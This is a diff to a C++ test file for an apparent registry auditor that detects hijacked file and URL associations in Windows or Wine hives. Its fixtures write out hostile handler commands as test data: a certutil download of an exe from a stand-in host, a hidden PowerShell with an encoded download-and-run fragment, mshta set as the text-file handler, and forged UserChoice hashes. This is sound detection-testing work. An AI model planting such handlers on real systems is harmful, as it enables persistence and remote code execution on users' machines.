@@ -110,6 +110,9 @@ std::string prefixWithForgedChoice(const TempDir& dir) {
             "txt\\\\"
             "UserChoice] 1796718931\n#time=1dd86ef15e6b0d0\n\"ProgId\"=\"txtfile\"\n"
             "\"Hash\"=\"AAAAAAAAAAA=\"\n\n"
+            "[Software\\\\Microsoft\\\\Windows\\\\Shell\\\\Associations\\\\UrlAssociations\\\\"
+            "mailto\\\\UserChoice] 1796718931\n#time=1dd86ef15e6b0d0\n\"ProgId\"=\"txtfile\"\n"
+            "\"Hash\"=\"AAAAAAAAAAA=\"\n\n"
             "[Software\\\\Classes\\\\txtfile\\\\shell\\\\open\\\\command] 1796718931\n"
             "#time=1dd86ef15e6b0d0\n@=\"C:\\\\windows\\\\system32\\\\mshta.exe %1\"\n\n");
     return prefix;
@@ -130,6 +133,12 @@ TEST(Audit, AChoiceWhoseHashFailsIsHighAndKeysWrittenTogetherShareACluster) {
     EXPECT_EQ(hash->valueName, "Hash");
     EXPECT_EQ(hash->value, "AAAAAAAAAAA=");
     ASSERT_TRUE(hash->lastWritten);
+    // A URL scheme's choice carries the same hash, with the scheme in place of the extension.
+    const Finding* mailto = findingOf(report, "userchoice-hash-fails",
+                                      "HKCU\\Software\\Microsoft\\Windows\\Shell\\Associations\\Url"
+                                      "Associations\\mailto\\UserChoice");
+    ASSERT_NE(mailto, nullptr) << describe(report);
+    EXPECT_EQ(mailto->severity, Severity::High);
     // The user's txtfile replaces the machine's notepad with a script host, both written in the
     // same second: one cluster.
     const Finding* shadow = findingOf(report, "user-shadows-machine",
@@ -141,6 +150,83 @@ TEST(Audit, AChoiceWhoseHashFailsIsHighAndKeysWrittenTogetherShareACluster) {
     // The same choice without its SID cannot be checked, and is not told as failing.
     auto unknown = testing::openView({prefix});
     EXPECT_EQ(findingOf(audit(*unknown.view), "userchoice-hash-fails", choiceKey), nullptr);
+}
+
+// A user's classes whose commands each carry one sign, or none, with the weight it carries.
+const char* const kSigns =
+    "[HKEY_CURRENT_USER\\Software\\Classes\\TempTool\\shell\\open\\command]\r\n"
+    "@=\"\\\"C:\\\\Windows\\\\Temp\\\\a.exe\\\" \\\"%1\\\"\"\r\n\r\n"
+    "[HKEY_CURRENT_USER\\Software\\Classes\\Fetcher\\shell\\open\\command]\r\n"
+    "@=\"certutil.exe -urlcache -f http://example.invalid/a.exe %1\"\r\n\r\n"
+    "[HKEY_CURRENT_USER\\Software\\Classes\\Encoded\\shell\\open\\command]\r\n"
+    "@=\"powershell.exe -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA= "
+    "%1\"\r\n\r\n"
+    "[HKEY_CURRENT_USER\\Software\\Classes\\Dll\\shell\\open\\command]\r\n"
+    "@=\"rundll32.exe shell32.dll,Control_RunDLL \\\"%1\\\"\"\r\n\r\n"
+    "[HKEY_CURRENT_USER\\Software\\Classes\\Com\\shell\\open\\command]\r\n"
+    "\"DelegateExecute\"=\"{4ED3A719-CEA8-4BD9-910D-E252F997AFC2}\"\r\n\r\n"
+    "[HKEY_CURRENT_USER\\Software\\Classes\\AppXfqdap54b29v3w265t548h0wzs1hqega7\\shell\\"
+    "open\\command]\r\n\"DelegateExecute\"=\"{4ED3A719-CEA8-4BD9-910D-E252F997AFC2}\"\r\n\r\n"
+    "[HKEY_CURRENT_USER\\Software\\Classes\\VBSFile\\shell\\open\\command]\r\n"
+    "@=\"%SystemRoot%\\\\System32\\\\WScript.exe \\\"%1\\\" %*\"\r\n\r\n"
+    "[HKEY_CURRENT_USER\\Software\\Classes\\Folder\\shell\\Tool\\command]\r\n"
+    "@=\"\\\"C:\\\\Program Files\\\\Tool\\\\tool.exe\\\" \\\"%1\\\"\"\r\n\r\n"
+    "[HKEY_CURRENT_USER\\Software\\Classes\\Viewer\\shell\\open\\command]\r\n"
+    "@=\"\\\"C:\\\\Program Files\\\\Viewer\\\\viewer.exe\\\"\"\r\n\r\n"
+    "[HKEY_CURRENT_USER\\Software\\Classes\\Viewer\\shell\\open\\ddeexec]\r\n@=\"[open(\\\"%1\\\")]"
+    "\"\r\n\r\n"
+    "[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\FileExts\\.doc\\"
+    "UserChoice]\r\n\"ProgId\"=\"Applications\\\\C:\\\\Temp\\\\x.exe\"\r\n\"Hash\"=\"AAAAAAAAAAA="
+    "\"\r\n\r\n";
+
+TEST(Audit, EachSignOfACommandWeighsAsItShould) {
+    TempDir dir;
+    auto opened = testing::openView({testing::writeRegFile(dir, "signs.reg", kSigns)});
+    ASSERT_TRUE(opened.view);
+    AuditReport report = audit(*opened.view);
+    const std::string kDocChoice =
+        "HKCU\\" + std::string(effective::kFileExts) + "\\.doc\\UserChoice";
+    auto command = [](const std::string& type, const std::string& verb = "open") {
+        return "HKCU\\Software\\Classes\\" + type + "\\shell\\" + verb + "\\command";
+    };
+    struct Expected {
+        std::string rule, key;
+        Severity severity;
+    };
+    for (const Expected& e : std::vector<Expected>{
+             {"writable-folder", command("TempTool"), Severity::Medium},
+             {"script-host", command("Fetcher"), Severity::High},
+             {"url-argument", command("Fetcher"), Severity::Medium},
+             {"script-host", command("Encoded"), Severity::Medium},
+             {"encoded-argument", command("Encoded"), Severity::Medium},
+             {"script-host", command("Dll"), Severity::Medium},
+             {"delegate-execute", command("Com"), Severity::Medium},
+             {"sensitive-class-override", command("VBSFile"), Severity::High},
+             {"sensitive-class-override", command("Folder", "Tool"), Severity::Medium},
+             {"userchoice-odd-application",
+              "HKCU\\" + std::string(effective::kFileExts) + "\\.doc\\UserChoice",
+              Severity::Medium}}) {
+        const Finding* f = findingOf(report, e.rule, e.key);
+        ASSERT_NE(f, nullptr) << e.rule << " on " << e.key << "\n" << describe(report);
+        EXPECT_EQ(f->severity, e.severity) << e.rule << " on " << e.key;
+    }
+    // What is as it should be: a packaged app's DelegateExecute, wscript running VBSFile, a
+    // verb whose DDE message names the file.
+    for (const Finding& f : report.findings) {
+        EXPECT_NE(f.type, "AppXfqdap54b29v3w265t548h0wzs1hqega7") << describe(report);
+        EXPECT_FALSE(f.rule == "script-host" && f.type == "VBSFile") << describe(report);
+        EXPECT_NE(f.type, "Viewer") << describe(report);
+    }
+}
+
+TEST(Audit, AFreshWinePrefixGivesNothing) {
+    // Its machine's handlers run rundll32 and send DDE messages, and Wine writes its URL
+    // choices without a hash: each as Windows and Wine do it.
+    auto opened = testing::openView({kFreshPrefix});
+    ASSERT_TRUE(opened.view);
+    AuditReport report = audit(*opened.view);
+    EXPECT_TRUE(report.findings.empty()) << describe(report);
+    EXPECT_TRUE(report.keyTimes);
 }
 
 using Compared = std::tuple<Severity, std::string, std::string, std::string, std::string,
